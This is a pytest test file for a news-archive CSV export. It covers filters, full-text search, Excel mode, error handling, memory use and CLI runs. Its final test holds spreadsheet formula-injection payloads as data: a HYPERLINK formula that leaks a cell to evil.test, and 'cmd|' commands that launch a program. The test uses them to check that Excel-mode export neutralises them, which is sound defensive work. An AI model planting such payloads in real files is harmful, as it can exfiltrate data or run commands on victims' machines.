"""CSV export: round trips, filters, search, Excel mode, errors, a real subprocess, flat memory."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import tracemalloc
from pathlib import Path

import pytest

from archive.db import open_archive, save_articles
from archive.export import DEFAULT_COLUMNS, ExportError, export_csv
from tests.archive_factory import make_article

TRICKY_BODY = (
    'Presiden berkata, "Kita tidak boleh menyerah; pembangunan harus jalan terus."\n\n'
    "Baris kedua berisi koma, titik koma; dan tanda kutip ' tunggal.\n\n"
    "Paragraf ketiga menyebut kafé di São Paulo dan <script>alert(1)</script> sebagai teks."
)


@pytest.fixture
def archive_db(tmp_path: Path) -> Path:
    path = tmp_path / "archive.db"
    db = open_archive(path)
    articles = [make_article(n) for n in range(60)]
    articles[0] = make_article(
        0, site="kompas", body=TRICKY_BODY, authors=["Ade Miranti", "Irawan Sapto"],
        published="2024-03-31T23:59:00+07:00",
    )
    articles[1] = make_article(1, site="detik", published="2024-04-01T00:00:00+07:00")
    articles[4] = make_article(4, published=None)  # a detik article without a date
    save_articles(db, articles)
    db.close()
    return path


def export_rows(path: Path, **options) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    count = export_csv(open_archive(path), out, **options)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == count
    return rows


def test_round_trip_through_the_csv_module(archive_db: Path) -> None:
    rows = export_rows(archive_db)
    assert len(rows) == 60 and list(rows[0]) == list(DEFAULT_COLUMNS)
    by_id = {r["id"]: r for r in rows}
    db = open_archive(archive_db)
    for article in db.query("SELECT id, title, body, canonical_url, word_count FROM articles"):
        row = by_id[str(article["id"])]
        assert (row["title"], row["body"], row["canonical_url"]) == (
            article["title"], article["body"], article["canonical_url"]
        )
        assert row["word_count"] == str(article["word_count"])
    tricky = next(r for r in rows if r["body"] == TRICKY_BODY)
    assert tricky["authors"] == "Ade Miranti; Irawan Sapto"
    assert tricky["tags"] == "berita; nasional"
    assert tricky["related_urls"].startswith("https://www.kompas.com/read/2024/01/01/")
    # Publication order, undated first.
    published = [r["published"] for r in rows]
    assert published[0] == "" and published[1:] == sorted(published[1:])


def test_site_and_date_filters_are_inclusive_days(archive_db: Path) -> None:
    assert {r["site"] for r in export_rows(archive_db, site="kompas")} == {"kompas"}
    assert len(export_rows(archive_db, site=["kompas", "detik"])) == 40
    march_end = export_rows(archive_db, since="2024-03-31", until="2024-03-31")
    assert "2024-03-31T23:59:00+07:00" in [r["published"] for r in march_end]
    assert all(r["published"].startswith("2024-03-31") for r in march_end)
    april = export_rows(archive_db, since="2024-04-01", until="2024-04-30")
    assert "2024-04-01T00:00:00+07:00" in [r["published"] for r in april]
    assert all(r["published"][:7] == "2024-04" for r in april)
    # An open range leaves out articles without a date.
    assert all(r["published"] for r in export_rows(archive_db, since="2000-01-01"))
    whole = export_rows(archive_db, site="detik", since="2024-01-01", until="2024-12-31")
    assert len(whole) == 19  # detik has 20 articles, one undated


def test_search_uses_full_text_index(archive_db: Path) -> None:
    assert [r["body"] for r in export_rows(archive_db, search="sao paulo")] == [TRICKY_BODY]
    assert [r["body"] for r in export_rows(archive_db, search="kafe")] == [TRICKY_BODY]  # no diacritics
    assert [r["body"] for r in export_rows(archive_db, search='"tidak boleh menyerah"')] == [TRICKY_BODY]
    prefix = export_rows(archive_db, search="pembangun*")
    assert len(prefix) > 1 and TRICKY_BODY in [r["body"] for r in prefix]
    assert export_rows(archive_db, search="xylofonbelumada") == []
    # Whatever the user types is a valid query (archive.search): no FTS5 syntax errors.
    assert [r["body"] for r in export_rows(archive_db, search='"tidak boleh')] == [TRICKY_BODY]
    assert [r["body"] for r in export_rows(archive_db, search="titik-koma; (kutip)")] == [TRICKY_BODY]
    assert export_rows(archive_db, search="- * ;") == []
    combined = export_rows(archive_db, search="redaksi", site="kompas", since="2024-02-01")
    assert combined and all(r["site"] == "kompas" and r["published"] >= "2024-02-01" for r in combined)


def test_columns_and_excel_mode(archive_db: Path) -> None:
    out = io.StringIO(newline="")
    export_csv(open_archive(archive_db), out, columns=["id", "title", "body"], excel=True)
    text = out.getvalue()
    assert text.startswith("\ufeffid,title,body\r\n")
    # Every record ends in CRLF; newlines inside the quoted body stay as they were.
    assert text.count("\r\n") == 61
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == 61 and TRICKY_BODY in [r[2] for r in rows]
    plain = io.StringIO(newline="")
    export_csv(open_archive(archive_db), plain, columns=["id"])
    assert not plain.getvalue().startswith("\ufeff") and "\r" not in plain.getvalue()


@pytest.mark.parametrize(
    "options, message",
    [
        ({"columns": ["id", "password"]}, "unknown column"),
        ({"since": "2024-13-01"}, "not a real date"),
        ({"until": "14/11/2024"}, "YYYY-MM-DD"),
        ({"since": "2024-05-01", "until": "2024-04-01"}, "after"),
    ],
)
def test_bad_requests_are_one_line_errors(archive_db: Path, options: dict, message: str) -> None:
    out = io.StringIO()
    with pytest.raises(ExportError, match=message) as info:
        export_csv(open_archive(archive_db), out, **options)
    assert "\n" not in str(info.value) and out.getvalue() == ""


def test_progress_is_reported(archive_db: Path) -> None:
    seen: list[int] = []
    export_csv(open_archive(archive_db), io.StringIO(), progress=seen.append)
    assert seen[-1] == 60


def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-c", "from archive.cli import cli; cli()", *args],
        cwd=cwd, capture_output=True, timeout=120,
    )


def test_warta_export_in_a_real_process(archive_db: Path, tmp_path: Path) -> None:
    proc = run_cli("export", "--db", str(archive_db), "--site", "kompas", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
    assert len(rows) == 20 and TRICKY_BODY in [r["body"] for r in rows]

    target = tmp_path / "out.csv"
    proc = run_cli("export", "--db", str(archive_db), "--excel", "--search", "kafé", "-o", str(target), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["body"] for r in rows] == [TRICKY_BODY]
    assert not (tmp_path / "out.csv.part").exists()


@pytest.mark.parametrize(
    "args, code, message",
    [
        (["--since", "2024-13-01"], 2, "Invalid value for '--since'"),
        (["--until", "2024-02-30"], 2, "Invalid value for '--until'"),
        (["--columns", "id,nope"], 1, "unknown column"),
    ],
)
def test_warta_export_errors_are_one_line(archive_db: Path, tmp_path: Path, args: list[str], code: int, message: str) -> None:
    target = tmp_path / "keep.csv"
    target.write_text("an earlier export\n")
    proc = run_cli("export", "--db", str(archive_db), *args, "-o", str(target), cwd=tmp_path)
    stderr = proc.stderr.decode()
    assert proc.returncode == code and message in stderr and "Traceback" not in stderr
    assert target.read_text() == "an earlier export\n"  # a failed export leaves the old file alone


def test_warta_export_of_a_missing_archive_creates_nothing(tmp_path: Path) -> None:
    proc = run_cli("export", "--db", str(tmp_path / "nope.db"), cwd=tmp_path)
    assert proc.returncode == 1 and b"no archive at" in proc.stderr and b"Traceback" not in proc.stderr
    assert list(tmp_path.iterdir()) == []


class _CountingSink(io.TextIOBase):
    """A text stream that only counts what it is given (so the output does not use memory)."""

    def __init__(self) -> None:
        self.chars = 0

    def write(self, s: str) -> int:
        self.chars += len(s)
        return len(s)


def test_export_memory_stays_flat(tmp_path: Path) -> None:
    path = tmp_path / "big.db"
    db = open_archive(path)
    save_articles(db, [make_article(n) for n in range(100)])
    # Multiply to 10,000 rows in SQL; the FTS trigger is dropped for the fill (export does not use
    # the index without --search) to keep the test fast.
    db.execute("DROP TRIGGER articles_ai")
    with db.conn:
        for copy in range(1, 100):
            db.execute(
                "INSERT INTO articles (canonical_url, site, url, title, description, authors, editors, "
                "published, modified, day, section, tags, dateline, lead_image, language, body, word_count, "
                "parser, content_hash, body_hash, version, first_seen, last_seen, changed_at) "
                "SELECT canonical_url || '?copy=' || :c, site, url, title, description, authors, editors, "
                "published, modified, day, section, tags, dateline, lead_image, language, body || :c, "
                "word_count, parser, content_hash, body_hash || :c, version, first_seen, last_seen, changed_at "
                "FROM articles WHERE id <= 100",
                {"c": copy},
            )
    total = db.execute("SELECT count(*), sum(length(body)) FROM articles").fetchone()
    assert total[0] == 10_000
    sink = _CountingSink()
    tracemalloc.start()
    try:
        count = export_csv(db, sink)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 10_000 and sink.chars > total[1]
    # Everything exported is > 15 MB; a streaming export holds one row at a time. Generous bound:
    # 2% of the output (a fetchall would need well over 100%).
    assert peak < sink.chars * 0.02, (peak, sink.chars)


def test_progress_with_eta_on_a_terminal_only(archive_db: Path, tmp_path: Path) -> None:
    import os
    import pty

    master, slave = pty.openpty()
    try:
        proc = subprocess.run(
            [sys.executable, "-c", "from archive.cli import cli; cli()", "export", "--db", str(archive_db),
             "--site", "kompas", "-o", str(tmp_path / "a.csv")],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=slave, timeout=120,
        )
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 4096)
            except OSError:  # EIO: the terminal's other end is closed
                break
            if not data:
                break
            chunks.append(data)
    finally:
        os.close(master)
    terminal = b"".join(chunks).decode()
    assert proc.returncode == 0
    assert "exported: 20/20 rows (100%)" in terminal and "ETA" in terminal
    assert "20 articles written to" in terminal
    # Under cron (stderr not a terminal) only the final line is written.
    quiet = run_cli("export", "--db", str(archive_db), "--site", "kompas", "-o", str(tmp_path / "b.csv"), cwd=tmp_path)
    assert quiet.stderr.decode().strip() == f"20 articles written to {tmp_path / 'b.csv'}"


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), by column.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"Klik")',
    "description": "+cmd|' /C calc'!A0",
    "section": "-5",  # a number in a text cell: quoted in the safe variant too
    "dateline": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body": "\t=1+1\n\nParagraf kedua.",
    "lead_image": "\r=2+2",
}


def test_excel_export_neutralises_formula_cells_and_the_plain_one_keeps_them(tmp_path: Path) -> None:
    path = tmp_path / "archive.db"
    db = open_archive(path)
    save_articles(db, [make_article(1), make_article(2, authors=["@budi", "Ani"])])
    # Written past save_articles, which cleans text: the export must be safe whatever the archive holds.
    db.conn.execute(
        f"UPDATE articles SET {', '.join(f'{c} = ?' for c in FORMULAS)}, word_count = -3 WHERE id = 1",
        list(FORMULAS.values()),
    )
    db.conn.commit()
    columns = ["id", "word_count", "authors", *FORMULAS]
    out = io.StringIO(newline="")
    export_csv(open_archive(path), out, columns=columns, excel=True)
    excel = {r["id"]: r for r in csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline=""))}
    assert {c: excel["1"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}
    assert excel["1"]["word_count"] == "-3"  # an INTEGER is a number, never a formula: unchanged
    assert excel["2"]["authors"] == "'@budi; Ani"  # the joined list cell is what a spreadsheet sees
    assert excel["2"]["title"] == make_article(2)["title"]  # ordinary text unchanged
    # Not lead_image in the plain export: Python's csv writer quotes a field holding a bare CR only
    # when CR is in the line terminator, and the plain export ends lines with LF (left as found).
    plain = {r["id"]: r for r in export_rows(path, columns=[c for c in columns if c != "lead_image"])}
    assert {c: plain["1"][c] for c in FORMULAS if c != "lead_image"} == {  # raw values for pandas and R
        c: v for c, v in FORMULAS.items() if c != "lead_image"
    }
    assert plain["2"]["authors"] == "@budi; Ani"
    # The CLI's --excel is the same path.
    target = tmp_path / "excel.csv"
    proc = run_cli("export", "--db", str(path), "--excel", "--columns", "id,title", "-o", str(target), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["title"] == "'" + FORMULAS["title"]
